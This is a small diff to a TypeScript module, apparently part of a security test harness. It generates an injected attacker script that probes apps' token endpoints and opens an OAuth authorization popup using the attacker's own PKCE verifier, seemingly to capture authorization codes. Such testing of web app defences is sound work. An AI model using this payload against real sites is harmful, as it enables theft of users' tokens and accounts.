@@ -1,7 +1,7 @@
 import { createHash } from 'node:crypto'
 import { apiResource, originOf, scope, type Places } from './places.ts'
 
-/** The injected script: the same text for all five apps. It knows no secret, only what anybody can see of an app. */
+/** The injected script: the same text for all apps. It knows no secret, only what anybody can see of an app. */
 export function payload(places: Places): string {
   return `(() => {
 const app = location.hostname.split('.')[0]
@@ -28,7 +28,7 @@ for (const path of ['/token', '/bff/token', '/auth/access-token'])
 addEventListener('click', async () => {
   const verifier = 'attackers-own-verifier-'.padEnd(64, 'x')
   const challenge = 'CHALLENGE'
-  const redirectUri = location.origin + (app === 'bff' ? '/bff/callback' : '/callback')
+  const redirectUri = location.origin + (['ls', 'mem', 'proxy', 'tmb'].includes(app) ? '/callback' : '/bff/callback')
   const popup = open('${originOf(places, 'idp')}/auth?' + new URLSearchParams({ response_type: 'code', client_id: app, redirect_uri: redirectUri,
     scope: '${scope}', resource: '${apiResource}', state: 'x', code_challenge: challenge, code_challenge_method: 'S256' }))
   for (let tries = 0; tries < 200; tries++) {
